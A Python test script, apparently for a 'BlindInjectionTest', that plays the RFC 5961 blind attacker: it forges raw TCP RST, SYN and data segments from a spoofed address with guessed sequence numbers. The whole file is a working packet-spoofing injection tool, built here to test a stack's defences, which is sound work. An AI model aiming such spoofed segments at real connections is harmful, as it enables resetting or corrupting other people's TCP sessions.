#!/usr/bin/env python3
"""Blind injection against one TCP connection (RFC 5961's attacker), for BlindInjectionTest.

Sends COUNT spoofed segments from SRC:SPORT to DST:DPORT through a raw socket (standard library
only): RSTs, SYNs and data segments in turn, half of them with a sequence number inside the
window [RCV_NXT, RCV_NXT + WINDOW) but never RCV_NXT itself (the exact guess), half outside it;
data segments carry a random acknowledgment number, as a blind attacker's would. Seeded, so a run
can be repeated. Prints one line: how many of each kind were sent.
"""
import random
import socket
import struct
import sys

RST, SYN, PSH_ACK = 0x04, 0x02, 0x18


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(src, dst, sport, dport, seq, ack, flags, payload):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    csum = checksum(pseudo + header + payload)
    header = header[:16] + struct.pack("!H", csum) + header[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(header) + len(payload), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + header + payload


def guess(rng, rcv_nxt, window, inside):
    if inside:
        return (rcv_nxt + 1 + rng.randrange(window - 1)) & 0xFFFFFFFF
    return (rcv_nxt + window + rng.randrange((1 << 32) - window)) & 0xFFFFFFFF


def main(src, dst, sport, dport, rcv_nxt, window, count, seed):
    rng = random.Random(seed)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = {"rst": 0, "syn": 0, "data": 0}
    for i in range(count):
        kind = ("rst", "syn", "data")[i % 3]
        seq = guess(rng, rcv_nxt, window, (i // 3) % 2 == 0)
        if kind == "rst":
            packet = segment(src, dst, sport, dport, seq, 0, RST, b"")
        elif kind == "syn":
            packet = segment(src, dst, sport, dport, seq, 0, SYN, b"")
        else:
            packet = segment(src, dst, sport, dport, seq, rng.getrandbits(32), PSH_ACK, b"EVIL")
        raw.sendto(packet, (dst, 0))
        sent[kind] += 1
    print("sent rst %d syn %d data %d" % (sent["rst"], sent["syn"], sent["data"]))


if __name__ == "__main__":
    a = sys.argv[1:]
    main(a[0], a[1], int(a[2]), int(a[3]), int(a[4]), int(a[5]), int(a[6]), int(a[7]))
